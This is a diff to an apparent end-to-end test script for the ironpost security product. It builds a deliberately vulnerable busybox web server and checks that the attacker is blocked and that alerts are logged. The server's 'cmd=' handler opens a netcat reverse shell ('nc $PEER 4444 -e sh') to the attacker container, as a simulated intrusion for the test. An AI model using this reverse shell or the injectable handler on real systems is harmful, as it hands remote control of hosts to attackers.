@@ -85,8 +85,10 @@ echo '{"schema_version":"1.6.0","id":"GO-2026-0001","modified":"'"$(date -u +%FT
 docker run --rm --network none -e IRONPOST_GENERAL_DATA_DIR=/var/lib/ironpost -v ironpost_sbom-scanner:/var/lib/ironpost -v "$PWD/osv:/osv:ro" \
   ironpost/hub:local /usr/bin/ironpost vulndb import --ecosystem Go /osv >"$work/import.log" 2>&1 || { cat "$work/import.log"; exit 1; }
 step "The stack starts, from nothing:"
+began=$SECONDS
 compose up -d >"$work/up.log" 2>&1 || { tail -n 20 "$work/up.log"; exit 1; }
 deploy/compose/wait.sh docker-compose -p ironpost --project-directory "$work/clone" -f "$work/clone/docker-compose.yml"
+echo "from nothing to all healthy: $((SECONDS - began)) s (bar: 60 s on an idle machine)"
 until_true ironpost status
 
 # The shop's server does not know who is connected: its log names the one client there is.
@@ -101,7 +103,8 @@ case $target in *cmd=*) (nc "$PEER" 4444 -e sh </dev/null >/dev/null 2>&1 &) ;; 
 END
 docker run -d --name shop --restart always -p 80:80 -v "$PWD/serve.sh:/serve.sh:ro" busybox:latest \
   sh -c 'while :; do PEER='"$attacker"' nc -l -p 80 -e sh /serve.sh; done' >/dev/null
-get() { printf 'GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$3" "$1" | busybox nc -w 3 "$1" "$2"; } # host port path
+# A server may take a connection that is half closed for one whose client has gone.
+get() { { printf 'GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n' "$3" "$1"; sleep 1; } | busybox nc -w 3 "$1" "$2"; } # host port path
 export -f get
 shop() { as_attacker bash -c "get $host_address 80 '$1'" | grep shop; }
 until_true shop ""
@@ -137,11 +140,10 @@ until_true blocked
 step "The kernel of the host drops the attacker's packets:"
 dropped() {
   as_attacker busybox ping -c 1 -W 1 "$host_address" && return 1
-  on_host bash -c 'get 127.0.0.1 9465 metrics' | grep -E '^ironpost_ebpf_engine_[a-z_]*(blocked|dropped)[a-z_]*(\{[^}]*\})? [1-9]' >"$work/dropped"
+  ironpost blocklist list | grep -q "^$attacker/32 .* container-guard  *[1-9]"
 }
 until_true dropped
 ironpost blocklist list
-head -n 3 "$work/dropped"
 rows() { [ "$(sql 'SELECT count(*) FROM ironpost.alerts')" -ge 1 ] && [ "$(sql 'SELECT count(*) FROM ironpost.actions')" -ge 3 ] && [ "$(sql "SELECT count(*) FROM ironpost.logs WHERE record::text LIKE '%x.php%'")" -ge 1 ]; }
 until_true rows
 printf 'rows: %s alerts, %s actions, %s lines\n' "$(sql 'SELECT count(*) FROM ironpost.alerts')" "$(sql 'SELECT count(*) FROM ironpost.actions')" "$(sql 'SELECT count(*) FROM ironpost.logs')"
